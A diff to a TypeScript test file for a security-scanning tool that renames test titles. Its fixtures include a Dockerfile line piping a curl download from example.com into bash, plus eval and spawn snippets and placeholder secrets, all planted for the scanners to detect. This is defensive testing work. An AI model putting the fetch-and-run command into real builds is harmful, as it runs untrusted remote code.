@@ -39,7 +39,7 @@ const scanners = [
 ] as const;
 for (const [tool, probe, section] of scanners) {
   test.skipIf(!hasTool(tool))(
-    `31: ${tool}: no comment, name or stray byte keeps a file from being scanned`,
+    `G31 ${tool}: no comment, name or stray byte keeps a file from being scanned`,
     async () => {
       repo = createFixtureRepo(disguises);
       const { envelope } = await repo.publish({ only: [probe] });
@@ -49,14 +49,14 @@ for (const [tool, probe, section] of scanners) {
   );
 }
 
-test.skipIf(!hasTool('ast-grep'))('31: ast-grep: lines are those of the file, not of what was made of it', async () => {
+test.skipIf(!hasTool('ast-grep'))('G31 ast-grep: lines are those of the file, not of what was made of it', async () => {
   repo = createFixtureRepo({ 'a.js': latin1('// \u00e9\n// ast-grep-ignore\ntry { go(); } catch {}\n') });
   const { envelope } = await repo.publish({ only: ['ast_grep'] });
   expect(envelope['ast_grep_findings']).toMatchObject({ findings: [{ path: 'a.js', line: 3 }], findings_total: 1 });
 });
 
 test.skipIf(!hasTool('semgrep'))(
-  '31: semgrep: a language is told as we tell it, whatever a file is called',
+  'G31 semgrep: a language is told as we tell it, whatever a file is called',
   async () => {
     const image = 'FROM node\nUSER node\nRUN curl https://example.com/x | bash\n';
     const files = {
@@ -79,7 +79,7 @@ const packed = {
   'minified.js': `/*${'x'.repeat(60_000)}*/\n${hazards}`,
 };
 
-test.skipIf(!hasTool('semgrep'))('31: semgrep: a file that is left out is named and costs confidence', async () => {
+test.skipIf(!hasTool('semgrep'))('G31 semgrep: a file that is left out is named and costs confidence', async () => {
   repo = createFixtureRepo({ ...packed, 'a.js': 'eval(code);\n' });
   const record = recordOf((await repo.publish({ only: ['semgrep'] })).envelope, 'semgrep');
   expect(record).toMatchObject({ confidence: 'medium', warnings: ['semgrep.partial_parse'] });
@@ -89,7 +89,7 @@ test.skipIf(!hasTool('semgrep'))('31: semgrep: a file that is left out is named 
   ]);
 });
 
-test.skipIf(!hasTool('ast-grep'))('31: ast-grep: a file that is left out is named and costs confidence', async () => {
+test.skipIf(!hasTool('ast-grep'))('G31 ast-grep: a file that is left out is named and costs confidence', async () => {
   repo = createFixtureRepo({ ...packed, 'a.js': 'eval(code);\n' });
   const record = recordOf((await repo.publish({ only: ['ast_grep'] })).envelope, 'ast_grep');
   expect(record).toMatchObject({ confidence: 'medium', warnings: ['ast_grep.files_left_out'] });
@@ -97,7 +97,7 @@ test.skipIf(!hasTool('ast-grep'))('31: ast-grep: a file that is left out is name
 });
 
 test.skipIf(!hasTool('rg'))(
-  '31: rg: a text that is not searched makes the total a lower bound; a picture does not',
+  'G31 rg: a text that is not searched makes the total a lower bound; a picture does not',
   async () => {
     repo = createFixtureRepo({ 'large.js': packed['large.js'], 'a.js': 'spawn(x);\n' });
     const { envelope } = await repo.publish({ only: ['ripgrep_curated'] });
@@ -111,7 +111,7 @@ test.skipIf(!hasTool('rg'))(
 );
 
 test.skipIf(!hasTool('gitleaks'))(
-  '31: gitleaks: no name and no first bytes keep a secret from being found',
+  'G31 gitleaks: no name and no first bytes keep a secret from being found',
   async () => {
     const files = {
       '.env': `MZ_KEY=${key}\n`,
@@ -130,7 +130,7 @@ test.skipIf(!hasTool('gitleaks'))(
   },
 );
 
-test.skipIf(!hasTool('gitleaks'))('31: gitleaks: two secrets in a line are two', async () => {
+test.skipIf(!hasTool('gitleaks'))('G31 gitleaks: two secrets in a line are two', async () => {
   repo = createFixtureRepo({ 'a.json': `{"a": "${key}", "b": "${other}"}\n` });
   const { envelope } = await repo.publish({ only: ['gitleaks'] });
   expect(envelope['gitleaks_findings']).toMatchObject({
@@ -140,7 +140,7 @@ test.skipIf(!hasTool('gitleaks'))('31: gitleaks: two secrets in a line are two',
 });
 
 test.skipIf(!hasTool('gitleaks') || !hasTool('bwrap'))(
-  '31: gitleaks: what git ignores today is found where it was committed once',
+  'G31 gitleaks: what git ignores today is found where it was committed once',
   async () => {
     repo = createFixtureRepo({ 'a.py': 'x = 1\n', 'out/old.py': `key = "${key}"\n` });
     repo.git('rm', '-rq', '--cached', 'out');
